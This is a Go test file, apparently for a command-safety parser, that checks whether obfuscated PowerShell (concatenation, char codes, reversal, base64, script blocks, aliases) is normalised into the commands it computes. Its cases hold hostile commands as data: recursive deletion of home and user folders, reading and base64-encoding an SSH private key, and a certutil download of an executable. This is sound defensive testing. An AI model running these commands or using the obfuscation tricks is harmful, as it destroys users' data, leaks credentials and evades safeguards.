@@ -1,0 +1,79 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestPowerShellEvaluated checks that PowerShell built from variables,
+// concatenation, -f, -join, character codes, reversal, base64 and script
+// blocks reaches the rules as the command it computes, and that the
+// session remembers PowerShell variables, aliases and functions.
+func TestPowerShellEvaluated(t *testing.T) {
+	cases := []struct {
+		calls []string
+		want  string // a normalised command that must be among the output
+	}{
+		{[]string{`$p = "$env:USERPROFILE"; Remove-Item $p -Recurse -Force`}, "rm -r -f ~"},
+		{[]string{`$env:TARGET = 'C:\Users\dev'`, `Remove-Item -LiteralPath $env:TARGET -Recurse -Force`}, "rm -r -f /Users/dev"},
+		{[]string{`$k = "$HOME\.ss" + "h\id_rsa"; Get-Content $k`}, "cat ~/.ssh/id_rsa"},
+		{[]string{`Get-Content (Join-Path $HOME '.ssh/id_rsa')`}, "cat ~/.ssh/id_rsa"},
+		{[]string{`Invoke-Expression ("Remove-" + "Item -Recurse -Force " + $env:USERPROFILE)`}, "rm -r -f ~"},
+		{[]string{"iex \"r`m -r -fo ~\""}, "rm -r -fo ~"},
+		{[]string{`iex ('{0}-{1} -Recurse -Force {2}' -f 'Remove','Item',$HOME)`}, "rm -r -f ~"},
+		{[]string{`iex (-join [char[]](114,109,32,45,114,32,45,102,32,126))`}, "rm -r -f ~"},
+		{[]string{`$s='~ f- r- mr'.ToCharArray(); [array]::Reverse($s); iex (-join $s)`}, "rm -r -f ~"},
+		{[]string{`& ([scriptblock]::Create('Remove-Item -Recurse -Force C:\Users\dev\*'))`}, "rm -r -f /Users/dev/*"},
+		{[]string{`$c=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0gLXJmIH4=')); iex $c`}, "rm -rf ~"},
+		{[]string{`[Convert]::ToBase64String([IO.File]::ReadAllBytes("$env:USERPROFILE\.ssh\id_rsa"))`}, "cat ~/.ssh/id_rsa"},
+		{[]string{`Invoke-Command -ComputerName b1 -ScriptBlock { Remove-Item -Recurse -Force C:\inetpub }`}, "rm -r -f /inetpub"},
+		{[]string{`function Clean-All { Remove-Item -Recurse -Force $HOME }`, `Clean-All`}, "rm -r -f ~"},
+		{[]string{`Set-Alias cleanup Remove-Item`, `cleanup -Recurse -Force C:\Users\dev\repos`}, "rm -r -f /Users/dev/repos"},
+		{[]string{`robocopy C:\empty C:\Users\dev\Documents /MIR`}, "rsync -a --delete /empty/ /Users/dev/Documents/"},
+		{[]string{`certutil -urlcache -split -f http://198.51.100.9/p.exe C:\Users\Public\p.exe`}, "curl -o /Users/Public/p.exe http://198.51.100.9/p.exe"},
+		// Temporary directories stay temporary.
+		{[]string{`$d = Join-Path $env:TEMP 'build-cache'; Remove-Item $d -Recurse -Force`}, "rm -r -f /tmp/build-cache"},
+	}
+	for _, c := range cases {
+		st := NewState()
+		var got []string
+		for _, call := range c.calls {
+			cmds, _ := Parse(call, st)
+			for i := range cmds {
+				got = append(got, strings.ReplaceAll(cmds[i].String(), `"`, "'"))
+			}
+		}
+		found := false
+		for _, g := range got {
+			found = found || g == c.want
+		}
+		if !found {
+			t.Errorf("%q: want %q among %q", c.calls, c.want, got)
+		}
+	}
+}
+
+// TestPowerShellUnknownStaysUnknown checks that what the evaluator does
+// not know is left alone: no value is made up.
+func TestPowerShellUnknownStaysUnknown(t *testing.T) {
+	st := NewState()
+	w := &walker{st: st}
+	for _, expr := range []string{`$nope`, `(Get-Date).ToString()`, `"a" + $unknown`, `[Convert]::FromBase64String('%%%')`, `'{0}' -f`} {
+		if v, ok := w.psEval(expr); ok {
+			t.Errorf("%s: evaluated to %q", expr, v.str())
+		}
+	}
+	for expr, want := range map[string]string{
+		`'it''s'`:                     "it's",
+		"\"a`tb\"":                    "a\tb",
+		`('{1}{0}' -f 'b','a')`:       "ab",
+		`"x".Replace('x','rm')`:       "rm",
+		`[char]0x72 + [char]109`:      "rm",
+		`'abc' -replace 'b', 'B'`:     "aBc",
+		`[IO.Path]::Combine('a','b')`: `a\b`,
+	} {
+		if v, ok := w.psEval(expr); !ok || v.str() != want {
+			t.Errorf("%s: got %q %v, want %q", expr, v.str(), ok, want)
+		}
+	}
+}
